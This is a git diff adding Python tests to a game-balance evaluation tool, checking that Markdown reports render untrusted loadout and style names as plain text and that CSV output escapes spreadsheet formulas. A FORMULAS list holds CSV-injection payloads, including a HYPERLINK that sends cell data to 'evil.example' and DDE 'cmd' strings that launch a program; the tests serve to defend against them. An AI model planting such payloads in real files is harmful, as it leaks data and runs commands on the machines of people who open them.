@@ -142,3 +142,87 @@ def test_levers_md_writes_loadout_names_from_a_study_as_text(tmp_path):
     report = write_levers(tmp_path, study, [lever], [], budget=10, step=1, tables=list(crafted), variant=tmp_path / crafted[1])
     html = MarkdownIt("commonmark", {"html": False}).enable("table").render(report.read_text())
     assert "<a " not in html and "<img" not in html and EVIL in html  # shown, as text
+
+
+def _rendered(markdown: str) -> _Page:
+    """The Markdown rendered as CommonMark with tables (raw HTML off, as report.html), checked offline and
+    column-true (:func:`_offline`): no link, image or heading of a name's own."""
+    from markdown_it import MarkdownIt
+
+    page = _offline(MarkdownIt("commonmark", {"html": False}).enable("table").render(markdown))
+    assert not page.tags & {"a", "img"} and all(EVIL not in heading for heading in page.h2), page.tags
+    return page
+
+
+def test_autobalance_md_writes_names_from_targets_studies_and_variants_as_text(tmp_path):
+    """``autobalance.md`` wrote loadout names (from the study and targets files), the patch's items (from the
+    variant) and the variant folder's name as they were: an image, a link, a forged heading, a shifted column."""
+    from issoku.evaluation.autobalance import Figures, Outcome, Targets, Trial, write_outcome
+    from issoku.evaluation.config import StudyConfig
+    from issoku.evaluation.metrics import balanced_first_mover
+    from issoku.rules.variant import Change
+    from issoku.training.outcomes import wilson
+
+    names = [name for name in NAMES if "\n" not in name]
+    figures = Figures({name: wilson(70, 100) for name in names}, balanced_first_mover([]), 100)
+    trial = Trial((), None, figures, {f"loadout {name}": (0.45, 0.55) for name in names}, phase="verify")
+    outcome = Outcome(Targets(loadout_elo_within=50, loadouts=tuple(names)), trial, trial, trial,
+                      [Change("tempo/data/armour.toml", NAMES[4], "rating", 4, 5)], tmp_path / NAMES[0],
+                      trials=[trial], stages=[NAMES[3].replace("\n", " "), NAMES[1]], edits_note=NAMES[2])
+    study = StudyConfig(env="tempo_duel_v0", policies=("random",))
+    report = write_outcome(tmp_path, study, outcome, tmp_path / NAMES[1], 10, 10, 100)
+    page = _rendered(report.read_text())
+    assert "Headlines" not in "".join(page.h2) and EVIL in report.read_text()  # shown, as text
+
+
+def test_styles_table_writes_style_and_checkpoint_names_as_text():
+    """``issoku styles`` printed a style's name (from a checkpoint's metadata), the checkpoint's file name and the
+    style's action prefixes into its Markdown table as they were."""
+    from issoku.evaluation.ladder import Rung
+    from issoku.evaluation.styles import StyleProfile, format_profiles
+
+    rung = Rung("a", "e", 0.0, 10.0, 0.0, 20.0, 0.5, 10)
+    profiles = [StyleProfile(f"runs/x/checkpoints/{NAMES[2]}.zip", NAMES[0], (), rung, {"a|b": 0.5, "`k`": 0.5}, 10),
+                StyleProfile(f"{NAMES[1]}.zip", NAMES[4], ("a|b",), rung, {"a|b": 1.0}, 10)]
+    assert len(_rendered(format_profiles(profiles)).rows) == 1
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+
+
+def test_a_csv_cell_never_starts_a_formula_and_numbers_stay_numbers():
+    """OWASP's CSV-injection rule: a text cell starting with = + - @, tab or carriage return gets a leading '."""
+    from issoku.evaluation.csv_output import spreadsheet_cell
+
+    assert [spreadsheet_cell(text) for text in FORMULAS] == ["'" + text for text in FORMULAS]
+    assert [spreadsheet_cell(value) for value in ("-0.2500", "+1", -3, 0.5, "kenshi", "")] == \
+        ["-0.2500", "+1", -3, 0.5, "kenshi", ""]
+
+
+def test_levers_csv_writes_a_formula_from_a_variant_as_text(tmp_path):
+    """``levers.csv`` wrote an item name from a received variant as the cell's start: a spreadsheet ran it."""
+    import csv
+
+    from issoku.evaluation.config import StudyConfig
+    from issoku.evaluation.levers import Lever, write_levers
+    from issoku.rules.variant import RULES_DIR, Change, NumericField
+
+    armour = "tempo/data/armour.toml"
+    levers = [Lever(Change(armour, formula, "rating", 4, 5), RULES_DIR, NumericField(armour, (formula,), 4), round=0)
+              for formula in FORMULAS]
+    write_levers(tmp_path, StudyConfig(env="tempo_duel_v0", policies=("random",)), levers, [], budget=10, step=1)
+    with (tmp_path / "levers.csv").open(newline="") as handle:
+        cells = [cell for row in list(csv.reader(handle))[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))], cells
+    assert sum(cell.startswith("'") for cell in cells) >= len(FORMULAS)
+
+
+def test_hunt_md_writes_edited_action_and_edit_names_as_text():
+    """``hunt.md`` wrote the edited data's action names and the variant's edit lines in hand-made code spans, which a
+    backtick in a name closed: the rest of the name was Markdown again."""
+    from issoku.evaluation.hunt_edits import EditedPlay, finding_lines
+
+    plays = [EditedPlay(NAMES[4] + NAMES[0], [NAMES[1]], 0.5, 0.1, 0.2, 0.6, played=True),
+             EditedPlay("`x` " + NAMES[0], [], 0.0, 0.0, 0.0, 0.0, played=True)]
+    _rendered("\n".join(f"- {line}" for line in finding_lines("br1", plays, (0.1, 0.0, 0.2))))
